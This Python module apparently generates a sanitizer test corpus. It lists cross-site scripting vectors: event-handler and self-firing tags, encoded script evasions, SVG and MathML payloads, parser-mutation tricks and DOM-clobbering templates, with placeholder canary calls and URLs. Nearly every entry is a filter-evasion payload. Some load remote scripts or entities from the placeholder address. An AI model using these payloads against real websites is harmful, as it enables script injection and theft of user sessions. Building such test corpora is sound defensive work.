"""Families of hostile markup, of our own making. `!JS!` stands for a call of the canary, `!URL!`
for an address of it.

After: OWASP's filter evasion sheet, the mutation classes of DOMPurify's changelog, the HTML
Standard's list of event handlers.
"""

from collections.abc import Iterator
from itertools import product

BARE = (
    "<img src=x on?=!JS!>",
    "<IMG SRC=x ON?='!JS!'>",
    "<img/src=x/on?=!JS!>",
    "<img\tsrc=x\ton?\t=\t!JS!>",
    "<img\nsrc=x\non?\n=\n!JS!>",
    "<img src=x on?=&#33;1;!JS!>",
    '<img src=x on?="!JS!"',
    "<<img src=x on?=!JS!>>",
    "<img src=x a='>' on?=!JS!>",
    "<img src=x on?=javascript:!JS!>",
    "<img src=x on?=eval(atob('X19oaXQoKQ=='));!JS!>",
    "<img src=x:x on?=(()=>{!JS!})()>",
)
EVENTS = ("error", "ERROR", "ErRoR")
SELF_STARTING = (
    "<svg onload=!JS!>",
    "<svg/onload=!JS!//",
    "<body onload=!JS!>",
    "<style onload=!JS!></style>",
    "<iframe onload=!JS!></iframe>",
    "<iframe srcdoc='<script>parent.!JS!</script>'></iframe>",
    "<iframe src='javascript:parent.!JS!'></iframe>",
    "<object data='data:text/html,<script>parent.!JS!</script>'></object>",
    "<object onerror=!JS! data=x></object>",
    "<embed src='javascript:!JS!'>",
    "<video src=x onerror=!JS!></video>",
    "<video><source onerror=!JS! src=x></video>",
    "<audio src=x onerror=!JS!></audio>",
    "<audio autoplay onplay=!JS! src=x></audio>",
    "<input type=image src=x onerror=!JS!>",
    "<input autofocus onfocus=!JS!>",
    "<textarea autofocus onfocus=!JS!></textarea>",
    "<select autofocus onfocus=!JS!></select>",
    "<button autofocus onfocus=!JS!>b</button>",
    "<a href=# autofocus onfocus=!JS!>a</a>",
    "<p tabindex=0 autofocus onfocus=!JS!>p</p>",
    "<x tabindex=0 autofocus onfocus=!JS!>x</x>",
    "<details open ontoggle=!JS!><summary>s</summary></details>",
    "<dialog open onclose=!JS!></dialog>",
    "<marquee onstart=!JS!>m</marquee>",
    "<link rel=stylesheet href=x onerror=!JS!>",
    "<script src=x onerror=!JS!></script>",
    "<style>@keyframes k{}</style><p style='animation:k 1ms' onanimationstart=!JS!>p</p>",
    "<p style='transition:color 1ms' ontransitionend=!JS!>p</p>",
    "<p oncontentvisibilityautostatechange=!JS! style='content-visibility:auto'>p</p>",
    "<image src=x onerror=!JS!>",
    "<picture><source srcset=x><img onerror=!JS! src=x></picture>",
    "<img srcset=x onerror=!JS!>",
    "<track src=x default onerror=!JS!>",
    "<frameset onload=!JS!>",
    "<portal src='!URL!'></portal>",
    "<object type=text/html data='!URL!'></object>",
    "<applet code=x onerror=!JS!></applet>",
    "<keygen autofocus onfocus=!JS!>",
    "<isindex type=image src=x onerror=!JS!>",
)
ON_TOUCH = tuple(
    f"<b {event}=!JS!>b</b>"
    for event in (
        "onclick",
        "ondblclick",
        "onmouseover",
        "onmouseenter",
        "onpointerover",
        "onpointerrawupdate",
        "onkeydown",
        "onbeforeinput",
        "oncopy",
        "onpaste",
        "ondragstart",
        "onwheel",
        "onscrollend",
        "onbeforetoggle",
        "onfocusin",
        "onauxclick",
        "oncommand",
    )
)
SCRIPTS = (
    "<script>!JS!</script>",
    "<ScRiPt>!JS!</sCrIpT>",
    "<script >!JS!</script >",
    "<script/x>!JS!</script>",
    "<script\n>!JS!</script\n>",
    "<scr<script>ipt>!JS!</scr</script>ipt>",
    "<script>!JS!",
    "<script src='!URL!'></script>",
    "<script src=data:text/javascript,!JS!></script>",
    "<script type=module>!JS!</script>",
    "<script type=text/javascript language=vbscript>!JS!</script>",
    "<script>/*</script>*/!JS!</script>",
    "<script><!--\n!JS!\n//--></script>",
    '<script type=importmap>{"imports":{"react":"!URL!"}}</script>',
    '<script type=speculationrules>{"prerender":[{"urls":["!URL!"]}]}</script>',
    "\u02bascript\u02ba<script>!JS!</script>",
    "\uff1cscript\uff1e!JS!\uff1c/script\uff1e",
    "&lt;script&gt;!JS!&lt;/script&gt;",
    "&#60;script&#62;!JS!&#60;/script&#62;",
    "%3Cscript%3E!JS!%3C/script%3E",
    "\\x3cscript\\x3e!JS!\\x3c/script\\x3e",
    "\\u003cscript\\u003e!JS!\\u003c/script\\u003e",
    "+ADw-script+AD4-!JS!+ADw-/script+AD4-",
    "<script>!JS!</script>\u0000",
    "<scr\u0000ipt>!JS!</script>",
)
FOREIGN = (
    "<svg><script>!JS!</script></svg>",
    "<svg><script href='!URL!'/></svg>",
    "<svg><script xlink:href='data:,!JS!'/></svg>",
    "<svg><animate onbegin=!JS! attributeName=x dur=1s></svg>",
    "<svg><set onbegin=!JS! attributeName=x></svg>",
    "<svg><animateTransform onbegin=!JS! attributeName=x></svg>",
    "<svg><animateMotion onbegin=!JS! attributeName=x dur=1s></svg>",
    "<svg><animate onrepeat=!JS! attributeName=x dur=1ms repeatCount=2></svg>",
    "<svg><a xlink:href='javascript:!JS!'><text y=9>t</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:!JS!'/><text y=9>t</text></a></svg>",
    "<svg><a><set attributeName=href to='javascript:!JS!'/><text y=9>t</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22>"
    "<script>!JS!</script></svg>#x'/></svg>",
    "<svg><use href='!URL!#x'/></svg>",
    "<svg><image href='!URL!'/></svg>",
    "<svg><image href=x onerror=!JS!></svg>",
    "<svg><feImage href='!URL!'/></svg>",
    "<svg><filter id=f><feImage href='!URL!'/></filter><rect filter=url(#f) width=9 height=9>",
    "<svg><foreignObject><img src=x onerror=!JS!></foreignObject></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.!JS!</script>'></foreignObject></svg>",
    "<svg><style>@import '!URL!';</style></svg>",
    "<svg><discard onbegin=!JS!></svg>",
    "<svg><handler type=application/ecmascript>!JS!</handler></svg>",
    "<svg><metadata><img src=x onerror=!JS!></metadata></svg>",
    "<svg onunload=!JS! onload='!JS!'>",
    "<svg><g onload=!JS!></g></svg>",
    "<svg><title><img src=x onerror=!JS!></title></svg>",
    "<svg><desc><img src=x onerror=!JS!></desc></svg>",
    "<svg><style><img src=x onerror=!JS!></style></svg>",
    "<math><mi xlink:href='javascript:!JS!'>m</mi></math>",
    "<math href='javascript:!JS!'>m</math>",
    "<math><maction actiontype=statusline xlink:href='javascript:!JS!'>m</maction></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=!JS!></annotation-xml></math>",
    "<math><mtext><img src=x onerror=!JS!></mtext></math>",
    "<math><mi><script>!JS!</script></mi></math>",
    "<?xml-stylesheet href='javascript:!JS!'?><img src=x onerror=!JS!>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM '!URL!'>]><x>&e;</x>",
    "<![CDATA[<img src=x onerror=!JS!>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=!JS!>]]></svg>",
)
HOLDERS = (
    "noscript",
    "noembed",
    "noframes",
    "xmp",
    "textarea",
    "title",
    "style",
    "listing",
    "template",
    "select",
    "option",
    "iframe",
    "button",
    "table",
    "svg",
    "math",
)
TURNS = (
    '<{0}><p title="</{0}><img src=x onerror=!JS!>"></{0}>',
    "<{0}><img src=x onerror=!JS!></{0}>",
    "</{0}><img src=x onerror=!JS!>{0}",
)
MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=!JS!&gt;">',
    "<math><mtext><table><mglyph><style><math><img src onerror=!JS!></style></mglyph></table>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=!JS!>",
    '<svg></p><style><a id="</style><img src=1 onerror=!JS!>">',
    '<svg><p><style><g title="</style><img src=x onerror=!JS!>"></svg>',
    "<noscript><p title='</noscript><img src=x onerror=!JS!>'>",
    '<img alt="``onerror=!JS! src=x">',
    "<img alt=`x` src=x onerror=!JS!`>",
    "<listing>&lt;img src=x onerror=!JS!&gt;</listing>",
    "<p><svg><style>&lt;img src=x onerror=!JS!&gt;</style></svg>",
    "<!--><img src=x onerror=!JS!>-->",
    "<!--!><img src=x onerror=!JS!>-->",
    "<!-- --!><img src=x onerror=!JS!> -->",
    "<!-->--><img src=x onerror=!JS!>",
    "<![><img src=x onerror=!JS!>]>",
    "</ ><img src=x onerror=!JS!>",
    "<?><img src=x onerror=!JS!>?>",
    "<%><img src=x onerror=!JS!>%>",
    "<a><a><a><a><table><td><a><svg><style><img src=x onerror=!JS!>",
    "<table><caption><svg><title><table><caption><img src=x onerror=!JS!>",
    "<select><keygen><svg><style><img src=x onerror=!JS!></style></svg></select>",
    "<option><style></option></select><b><img src=x onerror=!JS!></style></option>",
    "<template><style></template><img src=x onerror=!JS!></style></template>",
    "<div><template shadowrootmode=open><img src=x onerror=!JS!></template></div>",
    "<div><template shadowrootmode=closed><script>!JS!</script></template></div>",
    "<b><i><u><s><p><b><i><u><s><p><img src=x onerror=!JS!>",
    "<plaintext><img src=x onerror=!JS!>",
    "<x/><x onclick=!JS! autofocus tabindex=1 onfocus=!JS!>",
    "<form><input name=attributes><img src=x onerror=!JS!></form>",
    "<img src=x onerror\x0b=!JS!>",
    "<img src=x onerror\x0c=!JS!>",
    "<img src=x \u00a0onerror=!JS!>",
    "<img src=x onerror=\u2028!JS!>",
    "<a/b/c/onclick=!JS!/autofocus/tabindex=0/onfocus=!JS!>",
    "<img src=x onerror=window[`__hit`](1);!JS!>",
    "<img src=x onerror=top['__h'+'it'](1);!JS!>",
    "<img src=x onerror=&#x6a;avascript:!JS!>",
)
CLOBBERED = (
    "desk",
    "parlour",
    "location",
    "document",
    "cookie",
    "body",
    "getElementById",
    "querySelector",
    "currentScript",
    "defaultView",
    "Parlour",
    "constructor",
    "__proto__",
    "toString",
    "attributes",
    "parentNode",
    "activeElement",
    "visibilityState",
    "adoptedStyleSheets",
)
CLOBBERS = (
    "<a id={0} href='!URL!'></a><a id={0} name=url href='!URL!'></a>",
    "<form name={0}><input name={0} value='!URL!'></form>",
    "<img name={0} src='!URL!'>",
    "<iframe name={0} src='!URL!'></iframe>",
)


def handlers() -> Iterator[str]:
    for pattern, event in product(BARE, EVENTS):
        yield pattern.replace("on?", f"on{event}").replace("ON?", f"ON{event}")
    yield from SELF_STARTING
    yield from ON_TOUCH


def mutations() -> Iterator[str]:
    yield from MUTATIONS
    for holder, pattern in product(HOLDERS, TURNS):
        yield pattern.format(holder)


def clobbers() -> Iterator[str]:
    for pattern, name in product(CLOBBERS, CLOBBERED):
        yield pattern.format(name)
